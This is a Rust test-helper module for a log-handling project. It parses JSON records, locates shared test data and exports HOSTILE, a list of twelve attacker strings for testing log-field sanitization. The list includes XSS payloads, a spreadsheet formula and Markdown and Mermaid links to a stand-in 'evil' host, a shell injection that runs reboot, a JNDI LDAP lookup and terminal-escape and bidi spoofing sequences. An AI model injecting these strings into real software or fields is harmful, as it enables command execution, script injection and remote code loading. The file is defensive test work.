//! For tests only: records from JSON, the shared data folder, hostile strings, a moto server.

#![forbid(unsafe_code)]

mod moto;

use std::path::PathBuf;

use crashcart_model::Record;

pub use moto::{Moto, python};

/// Parses `json` and hands the record to `test`.
///
/// # Panics
/// When `json` is not one JSON value: the test is wrong.
#[allow(clippy::panic, reason = "a test with broken JSON must fail loudly")]
pub fn with_record<T>(json: &str, test: impl FnOnce(&Record<'_>) -> T) -> T {
    let mut tape = crashcart_decode::json::Tape::new();
    if let Err(stop) = tape.parse(json, 128) {
        panic!("the test's JSON does not parse ({stop:?}): {json}");
    }
    test(&tape.record(json))
}

/// A file or folder of the shared data (`CRASHCART_DATA`, default `../shared/data` beside the
/// project). None, with a printed reason, where it is absent: the test then counts as skipped.
#[allow(clippy::print_stderr, reason = "a skipped test says so")]
#[allow(clippy::disallowed_methods, reason = "tests read CRASHCART_DATA")]
pub fn shared_data(path: &str) -> Option<PathBuf> {
    let root = std::env::var_os("CRASHCART_DATA").map_or_else(
        || PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared/data")),
        PathBuf::from,
    );
    let found = root.join(path);
    if found.exists() {
        return Some(found);
    }
    eprintln!("SKIPPED: {} is not there (set CRASHCART_DATA)", found.display());
    None
}

/// Strings that attackers put into log fields, one trick each: terminal control sequences, HTML,
/// CSV formulas, Markdown, Mermaid, bidirectional overrides, line breaks, a shell.
pub const HOSTILE: [&str; 12] = [
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=HYPERLINK(\"http://evil\",\"x\")",
    "@SUM(1)\t+1-1",
    "](http://evil) **bold** `code` | cell",
    "\"]; click A \"http://evil\"; %% mermaid",
    "\u{202e}gpj.exe\u{202c}\u{200b}",
    "line one\r\nline two\u{2028}three",
    "$(reboot); `reboot`; '; reboot #",
    "nul\u{0}del\u{7f}csi\u{9b}31m",
    "{{template}} ${jndi:ldap://evil}",
];
